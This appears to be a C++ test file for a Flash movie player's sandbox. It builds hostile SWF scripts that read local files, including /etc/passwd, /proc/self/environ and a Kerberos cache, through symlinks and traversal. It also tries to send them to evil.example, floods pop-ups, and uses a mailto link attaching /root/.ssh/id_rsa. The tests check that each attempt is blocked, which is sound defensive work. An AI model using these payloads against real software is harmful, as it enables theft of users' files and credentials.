// Movies that try what a stranger's card would: read the person's files and send them out,
// open pages unasked. Played through the stage's scripts with a real folder on disk.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sys/stat.h>
#include <unistd.h>

#include "InteractiveMovie.h"
#include "MovieFolder.h"

namespace mc {
namespace {

namespace fs = std::filesystem;
using moviemaker::Actions;

void writeText(const fs::path& path, std::string_view text) {
    std::ofstream(path, std::ios::binary) << text;
}

// A folder for the movie, with files of its own, and a secret beside the folder.
class StrangerMovieTest : public ::testing::Test {
  protected:
    void SetUp() override {
        std::string pattern = (fs::temp_directory_path() / "stranger-XXXXXX").string();
        ASSERT_NE(::mkdtemp(pattern.data()), nullptr);
        root_ = pattern;
        folder_ = root_ / "movie";
        fs::create_directories(folder_ / "sub");
        writeText(folder_ / "movie.swf", "FWS");
        writeText(folder_ / "vars.txt", "name=ok");
        writeText(folder_ / "sub" / "part.txt", "name=sub");
        writeText(root_ / "krb5cc_1000", "name=secret");
    }
    void TearDown() override { fs::remove_all(root_); }

    fs::path root_;
    fs::path folder_;
};

// A movie playing with the scripts' reads going to `folder` as the player's would.
struct HostileStage {
    HostileStage(std::vector<std::uint8_t> bytes, const MovieFolder& folder)
        : file(std::move(bytes)) {
        loaded = swf::loadMovie(file);
        EXPECT_TRUE(loaded.ok());
        catalog = std::make_unique<MovieCatalog>(*loaded.movie);
        StageCallbacks callbacks;
        callbacks.trace = [this](std::string_view line) { traced.emplace_back(line); };
        callbacks.openUrl = [this](const std::string& url) { opened.push_back(url); };
        callbacks.confirmUrl = [this](const std::string& url) { asked.push_back(url); };
        callbacks.logLimit = [this](std::string_view line) { logged.emplace_back(line); };
        callbacks.readBeside = [folder](const std::string& path) { return folder.read(path); };
        scripts = std::make_unique<StageScripts>(*loaded.movie, std::move(callbacks));
        player =
            std::make_unique<TimelinePlayer>(*catalog, loaded.movie->root, Rgba{255, 255, 255, 255},
                                             TimelineLimits{}, scripts.get());
        input = std::make_unique<StageInput>(*loaded.movie, *player, scripts.get());
    }
    void frames(int n) {
        for (int i = 0; i < n; ++i) {
            player->advance();
            scripts->runTimers();
        }
    }
    void click(double x, double y) {
        input->mouseMove(x, y);
        input->mouseDown(x, y);
        input->mouseUp(x, y);
    }

    std::vector<std::uint8_t> file;
    swf::LoadResult loaded;
    std::unique_ptr<MovieCatalog> catalog;
    std::unique_ptr<StageScripts> scripts;
    std::unique_ptr<TimelinePlayer> player;
    std::unique_ptr<StageInput> input;
    Lines traced;
    Lines opened;
    Lines asked;
    Lines logged;
};

// lv = new LoadVars(); lv.onData = function (src) { trace(src); getURL(<out> + src); }
Actions exfiltratingLoader(std::string_view out) {
    Actions onData;
    onData.push("src").code(0x1C).code(0x26);
    onData.push(out).push("src").code(0x1C).code(0x47).push("_blank").getUrl2(0);
    Actions a;
    a.push("lv").push(0.0).push("LoadVars").code(0x40).code(0x1D);
    a.push("lv").code(0x1C).push("onData");
    a.defineFunction("", {"src"}, onData);
    return a.code(0x4F);
}

// A button covering the stage's top left 100 by 100 pixels; its release and a press of
// the "g" key run `actions`.
void placeButton(moviemaker::SwfWriter& movie, const Actions& actions) {
    const uint16_t box = rectangleShape(movie, {0, 0, 0, 255}, 0, 0, 2000, 2000);
    moviemaker::Button b;
    b.records = {{0x0F, box, 1, {}, {}}};
    b.conditions = {{0x0008, actions}, {static_cast<uint16_t>('g' << 9), actions}};
    moviemaker::PlaceObject place;
    place.depth = 1;
    place.characterId = movie.defineButton2(b);
    movie.placeObject(place);
}

TEST_F(StrangerMovieTest, APlainMovieReadsItsOwnFolderAndNothingALinkOrPathLeadsOutTo) {
    fs::create_symlink("/etc/passwd", folder_ / "passwd");
    fs::create_symlink("/proc/self/environ", folder_ / "environ");
    fs::create_symlink("/etc", folder_ / "etc");
    fs::create_symlink(root_, folder_ / "up");
    fs::create_symlink("/dev/zero", folder_ / "zero");
    fs::create_symlink(folder_ / "vars.txt", folder_ / "sub" / "again.txt");
    ASSERT_EQ(::mkfifo((folder_ / "pipe").c_str(), 0600), 0);

    moviemaker::SwfWriter movie(version8());
    Actions a = exfiltratingLoader("https://evil.example/?d=");
    for (const char* name :
         {"passwd", "environ", "etc/hostname", "up/krb5cc_1000", "../krb5cc_1000", "zero", "pipe",
          "/etc/passwd", "file:///etc/passwd", "sub/../../krb5cc_1000", "vars.txt", "sub\\part.txt",
          "sub/again.txt"}) {
        a.callMethod("lv", "load", {name});
    }
    movie.doAction(a);
    movie.showFrame();
    movie.showFrame();
    HostileStage m(movie.finish(), MovieFolder::ofMovie((folder_ / "movie.swf").string()));
    m.frames(1);

    Lines expected(10, "undefined");
    expected.insert(expected.end(), {"name=ok", "name=sub", "name=ok"});
    EXPECT_EQ(m.traced, expected);
    // Sending what was read needs a click, and then the person's yes.
    EXPECT_TRUE(m.opened.empty());
    EXPECT_TRUE(m.asked.empty());
    ASSERT_EQ(m.logged.size(), 1u);
    EXPECT_NE(m.logged[0].find("not asked for by a click"), std::string::npos);
}

TEST_F(StrangerMovieTest, TheFolderIsTheMoviesRealOneAndLargeFilesAreRefusedWhole) {
    fs::create_directories(root_ / "elsewhere");
    fs::create_symlink(folder_ / "movie.swf", root_ / "elsewhere" / "link.swf");
    const MovieFolder throughLink =
        MovieFolder::ofMovie((root_ / "elsewhere" / "link.swf").string());
    EXPECT_EQ(throughLink.realPath(), fs::canonical(folder_).string());
    EXPECT_EQ(throughLink.read("vars.txt", 7),
              (std::vector<std::uint8_t>{'n', 'a', 'm', 'e', '=', 'o', 'k'}));
    EXPECT_TRUE(throughLink.read("vars.txt", 6).empty());
    // No folder for a movie that is not there, nor for one at the root of the file system.
    EXPECT_TRUE(MovieFolder::ofMovie((folder_ / "missing.swf").string()).empty());
    EXPECT_TRUE(MovieFolder::ofMovie("/").empty());
}

TEST_F(StrangerMovieTest, ACardsMovieFindsNothingBesideItHoweverManyNamesItTries) {
    // The card's movie sits in the temporary folder among other programs' files.
    writeText(folder_ / "krb5cc_1000", "name=planted");
    moviemaker::SwfWriter movie(version8());
    Actions a = exfiltratingLoader("https://evil.example/?d=");
    for (int i = 0; i < 2000; ++i) {
        a.callMethod("lv", "load", {"krb5cc_" + std::to_string(i)});
    }
    a.callMethod("this", "loadVariables", {"vars.txt"});
    a.callMethod("this", "loadMovie", {"sub/part.txt"});
    movie.doAction(a);
    movie.showFrame();
    movie.doAction(Actions().traceValue("name").traceValue("_url").stop());
    movie.showFrame();
    HostileStage m(movie.finish(), MovieFolder());
    m.frames(2);

    ASSERT_EQ(m.traced.size(), 2002u);
    EXPECT_EQ(std::count(m.traced.begin(), m.traced.end(), "undefined"), 2001);
    EXPECT_TRUE(m.opened.empty());
    EXPECT_TRUE(m.asked.empty());
}

TEST_F(StrangerMovieTest, PagesOpenOnlyForAClickOrKeyAndOneEach) {
    moviemaker::SwfWriter movie(version8());
    Actions threePages;
    for (int i = 1; i <= 3; ++i) {
        threePages.getUrl("https://example.org/" + std::to_string(i), "_blank");
    }
    placeButton(movie, threePages);
    // 300 pages from the first frame, and more from a timer the click might have set.
    Actions flood;
    for (int i = 0; i < 300; ++i) {
        flood.getUrl("https://flood.example/" + std::to_string(i), "_blank");
    }
    movie.doAction(flood);
    movie.showFrame();
    movie.doAction(Actions().stop());
    movie.showFrame();
    HostileStage m(movie.finish(), MovieFolder::ofMovie((folder_ / "movie.swf").string()));
    m.frames(1);
    EXPECT_TRUE(m.opened.empty());

    m.click(50, 50);
    EXPECT_EQ(m.opened, (Lines{"https://example.org/1"}));
    m.input->keyDown(KeyStroke{'G', 'g'});
    m.input->keyUp(KeyStroke{'G', 'g'});
    EXPECT_EQ(m.opened, (Lines{"https://example.org/1", "https://example.org/1"}));
    // Moving the pointer is no one asking.
    m.input->mouseMove(60, 60);
    m.frames(3);
    EXPECT_EQ(m.opened.size(), 2u);
    // Each kind of refusal is logged once, however often it happens.
    EXPECT_EQ(m.logged.size(), 2u);
}

TEST_F(StrangerMovieTest, AfterReadingALocalFileAClickedPageIsAskedForFirst) {
    moviemaker::SwfWriter movie(version8());
    placeButton(movie, Actions()
                           .push("https://example.org/?v=")
                           .push("name")
                           .code(0x1C)
                           .code(0x47)
                           .push("_blank")
                           .getUrl2(0));
    movie.doAction(Actions().callMethod("this", "loadVariables", {"vars.txt"}));
    movie.showFrame();
    movie.doAction(Actions().stop());
    movie.showFrame();
    const std::vector<std::uint8_t> bytes = movie.finish();

    HostileStage before(bytes, MovieFolder());
    before.frames(2);
    before.click(50, 50);
    EXPECT_EQ(before.opened.size(), 1u);
    EXPECT_TRUE(before.asked.empty());

    HostileStage after(bytes, MovieFolder::ofMovie((folder_ / "movie.swf").string()));
    after.frames(2);
    after.click(50, 50);
    EXPECT_TRUE(after.opened.empty());
    EXPECT_EQ(after.asked, (Lines{"https://example.org/?v=ok"}));
}

TEST_F(StrangerMovieTest, LongAddressesAndMailAttachmentsNeverLeave) {
    moviemaker::SwfWriter movie(version8());
    // u = "https://example.org/?" + 16 KB; u = u + u + u + u; getURL(u): over 64 KB.
    Actions huge;
    huge.push("u").push("https://example.org/?" + std::string(16 * 1024, 'a')).code(0x1D);
    huge.push("u").push("u").code(0x1C).push("u").code(0x1C).code(0x47);
    huge.push("u").code(0x1C).code(0x47).push("u").code(0x1C).code(0x47).code(0x1D);
    huge.push("u").code(0x1C).push("_blank").getUrl2(0);
    placeButton(movie, huge);
    movie.showFrame();
    moviemaker::SwfWriter mail(version8());
    placeButton(
        mail, Actions().getUrl(
                  "mailto:a@example.org?attach=/root/.ssh/id_rsa&subject=Hi&%61ttach=x", "_blank"));
    mail.showFrame();

    HostileStage m(movie.finish(), MovieFolder());
    m.frames(1);
    m.click(50, 50);
    EXPECT_TRUE(m.opened.empty());
    ASSERT_EQ(m.logged.size(), 1u);
    EXPECT_NE(m.logged[0].find("longer than 4 KB"), std::string::npos);
    EXPECT_LT(m.logged[0].size(), 400u);

    HostileStage mailer(mail.finish(), MovieFolder());
    mailer.frames(1);
    mailer.click(50, 50);
    EXPECT_EQ(mailer.opened, (Lines{"mailto:a@example.org?subject=Hi"}));
}

} // namespace
} // namespace mc
